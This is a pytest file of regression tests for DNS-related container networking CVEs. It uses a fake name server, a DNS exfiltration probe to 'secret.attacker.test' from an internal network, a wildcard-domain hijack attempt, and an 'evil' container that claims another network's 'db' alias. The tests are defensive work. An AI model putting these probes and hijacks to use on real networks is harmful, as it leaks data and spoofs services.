"""Names: what must not get out by them, and who must not get in."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from lane.machine import Place
from scenarios.lab import Lab
from security.attack import Ears, listen

pytestmark = pytest.mark.lab
NAP = "busybox sleep 1000"


@contextmanager
def name_server(place: Place, address: str, knows: bytes = b"") -> Iterator[list[bytes]]:
    """A DNS server that says 6.6.6.6 to every name ending in ``knows``, and remembers what it was asked."""
    asked: list[bytes] = []
    with listen(place, 53, address) as sock:

        def serve() -> None:
            while True:
                try:
                    packet, peer = sock.recvfrom(4096)
                except OSError:
                    return
                if packet == b"over":
                    return
                asked.append(packet)
                end = packet.index(b"\0", 12) + 5
                question = packet[12:end]
                found = knows in question and question[-3] == 1
                record = b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4\6\6\6\6" if found else b""
                head = packet[:2] + (b"\x81\x80" if knows in question else b"\x81\x83")
                sock.sendto(head + b"\0\1\0" + bytes([found]) + b"\0\0\0\0" + question + record, peer)

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield asked
        finally:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as last:
                place.within(lambda: _send_over(address))
                last.close()
            thread.join()


def _send_over(address: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"over", (address, 53))


@contextmanager
def resolving_by(lab: Lab, text: str) -> Iterator[None]:
    """The host's /etc/resolv.conf for a while."""
    place = lab.engine.base / "resolv.conf"
    before = place.read_text()
    place.write_text(text)
    try:
        yield
    finally:
        place.write_text(before)


@pytest.mark.proves(
    "CVE-2024-29018",
    guard=(
        "engine/naming.py",
        "forward=any(self._drivers[n.driver].attachment(n).default_route for n, _ in stack.attached)",
        "forward=True",
    ),
)
@pytest.mark.parametrize("where", ["on the host's loopback", "on the LAN"])
def test_an_internal_network_asks_nobody(lab: Lab, where: str) -> None:
    lab.docker("network create --internal DEEP")
    lab.docker("network create OPEN")
    address = "127.0.0.53" if "loopback" in where else f"{lab.outside.net}.53"
    place = lab.host if "loopback" in where else lab.outside
    lab.outside(f"ip addr add {lab.outside.net}.53/32 dev lan0")
    with resolving_by(lab, f"nameserver {address}\n"), name_server(place, address, b"") as asked:
        lab.run(f"-d --name deep --net DEEP --dns-search attacker.test {NAP}")
        lab.run(f"-d --name open --net OPEN {NAP}")
        with Ears(lab.outside, "lan0") as ears:
            assert lab.inside("deep", "nslookup secret.attacker.test").code != 0
            assert not lab.resolves("deep", "secret2.attacker.test")
            assert not asked and not ears.heard(b"\6secret")
        lab.inside("open", "nslookup open.attacker.test")
        assert any(b"\4open" in packet for packet in asked), "the others may"
    lab.outside(f"ip addr del {lab.outside.net}.53/32 dev lan0")


@pytest.mark.proves(
    "CVE-2025-8283", guard=("core/hostsfile.py", 'draft.options.append("ndots:0")', 'draft.options.append("ndots:1")')
)
def test_a_wildcard_of_the_search_domain_is_no_container(lab: Lab) -> None:
    lab.docker("network create RED")
    lab.outside(f"ip addr add {lab.outside.net}.53/32 dev lan0")
    wildcard = b"\4corp\4test\0"
    conf = f"nameserver {lab.outside.net}.53\nsearch corp.test\n"
    with resolving_by(lab, conf), name_server(lab.outside, f"{lab.outside.net}.53", wildcard):
        lab.run(f"-d --name db --net RED {NAP}")
        lab.run(f"-d --name web.db --net RED {NAP}")
        lab.run(f"-d --name client --net RED {NAP}")
        for name in ("db", "web.db"):
            shown = lab.inside("client", f"ping -c1 -W1 {name}")
            assert lab.address(name, "RED") in shown and "6.6.6.6" not in shown, shown
        assert "options ndots:0" in lab.inside("client", "cat /etc/resolv.conf")
    lab.outside(f"ip addr del {lab.outside.net}.53/32 dev lan0")


@pytest.mark.proves(
    "CVE-2026-53935",
    guard=(
        "engine/naming.py",
        "networks=tuple(network.id for network in named),",
        "networks=tuple(network.id for network in named)"
        " + tuple(n for pairs in self._served.values() for n, _ in pairs),",
    ),
)
def test_a_name_is_its_networks(lab: Lab) -> None:
    """Whoever may choose its names calls itself db: on its own network only."""
    lab.docker("network create RED")
    lab.docker("network create BLUE")
    lab.run(f"-d --name evil --net BLUE --network-alias db --network-alias store {NAP}")
    lab.run(f"-d --name db --net RED {NAP}")
    lab.run(f"-d --name client --net RED {NAP}")
    for _ in range(4):
        assert lab.address("db", "RED") in lab.pings("client", "db")
    assert not lab.resolves("client", "store")
